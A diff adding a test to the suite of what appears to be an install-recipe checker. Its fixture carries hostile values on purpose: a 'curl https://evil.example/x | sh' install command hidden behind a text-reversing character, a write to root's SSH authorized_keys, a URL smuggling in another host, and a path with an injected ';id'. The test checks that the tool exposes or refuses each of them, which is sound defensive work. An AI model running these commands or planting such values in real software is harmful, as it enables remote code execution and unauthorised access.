@@ -295,6 +295,38 @@ test("a policy that is wrong is told with every mistake and its place", () => {
   assert.match(expect(64, ["policy", "chek", "bad.toml"]).stderr, /no `dynaboot policy chek`/);
 });
 
+test("what a recipe does that is not built in is said before anything is asked of it", () => {
+  const linux = {
+    present: ["/opt/acme/bin"],
+    bundle: "other.example/a.tar.gz",
+    install: ["sh", "-c", "curl https://evil.example/x | sh\u202e"],
+    handover: [{ path: "/root/.ssh/authorized_keys", line: "ssh-ed25519 AAAA" }],
+    arches: ["x86_64"],
+  };
+  const acme = { label: "Acme", table: "mechanics", packageStore: false, settings: [], source: { from: "dynaboot" }, linux };
+  project.write("recipe.json", JSON.stringify({ name: "acme", version: "1", agents: { acme } }));
+  const told = expect(0, ["policy", "check", "recipe.json"]).stdout;
+  for (const said of ["acme is not built in", "curl https://evil.example/x | sh", "/root/.ssh/authorized_keys", "other.example"]) {
+    assert.ok(told.includes(said), told);
+  }
+  assert.ok(!told.includes("\u202e"), "no letter turns the line around");
+  const { recipes } = JSON.parse(expect(0, ["policy", "check", "recipe.json", "--format", "json"]).stdout);
+  assert.deepEqual(recipes[0].writes, ["/root/.ssh/authorized_keys"]);
+  // Something filled into what a shell reads, and a store's URL that runs on into another host, are refused at their places.
+  for (const [name, wrong, place] of [
+    ["install", ["sh", "-c", "./install {dir}"], "install\\.2"],
+    ["bundle", "{bundleStore}@evil.example/a.tar.gz", "bundle"],
+    ["present", ["/opt/a;id"], "present\\.0"],
+  ]) {
+    const settings = [{ name: "dir", label: "Dir", ask: "Which?", form: "path" }];
+    const agent = { ...acme, settings, linux: { ...linux, [name]: wrong } };
+    project.write("wrong.json", JSON.stringify({ name: "acme", version: "1", agents: { acme: agent } }));
+    const { stdout, stderr } = expect(64, ["policy", "check", "wrong.json"]);
+    assert.equal(stdout, "");
+    assert.match(stderr, new RegExp(`agents\\.acme\\.linux\\.${place}: found .*expected`, "s"));
+  }
+});
+
 test("completions are what the shells take", () => {
   for (const shell of ["bash", "zsh", "fish"]) {
     const { stdout } = expect(0, ["completion", shell]);
